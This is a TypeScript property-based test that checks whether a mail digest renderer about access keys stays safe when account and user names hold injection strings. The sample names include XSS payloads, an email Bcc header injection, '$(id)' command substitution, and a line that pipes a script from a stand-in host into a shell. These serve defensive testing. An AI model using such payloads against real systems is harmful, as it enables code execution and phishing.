import fc from 'fast-check';
import { renderDigest } from '../../../src/mail/digest/digest.ts';
import { textsLike } from '../../builders/any-text.ts';
import { notice } from '../../builders/notice.ts';
import { digestContext } from '../samples.ts';

const names = textsLike(
  ...[
    'shop',
    '<script>alert(1)</script>',
    '<img src=x onerror=x>',
    '&lt;',
    '\r\nBcc: victim@example.net',
    '`',
  ],
  ...[
    '\nDEACTIVATED: access key',
    'ROTATE by now: access key AKIA',
    '$(id)',
    "'; curl evil.example | sh #",
    '\ud800',
  ],
);

test('whatever accounts and users are called, a mail about a key says what it says of any other', () => {
  const plain = renderDigest({ contact: notice().contact, notices: [notice()] }, digestContext());
  fc.assert(
    fc.property(names, names, (accountName, userName) => {
      const one = notice({ accountName, userName });
      const { subject, text, html } = renderDigest({ contact: one.contact, notices: [one] }, digestContext());
      expect(subject.split(': ')[0]).toBe(plain.subject.split(': ')[0]);
      expect(subject).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      expect(text).not.toMatch(/[\r\u2028\u2029\u202e\0]/);
      expect(text).not.toMatch(/^\s*(?:Bcc|DEACTIVATED|REMINDER|LAST DAY|OVERDUE)/m);
      expect(text.match(/^(?:ROTATE|Deadline)/gm)).toEqual(plain.text.match(/^(?:ROTATE|Deadline)/gm));
      expect(html).not.toMatch(/<script|<img/);
    }),
    { numRuns: 1_000 },
  );
});
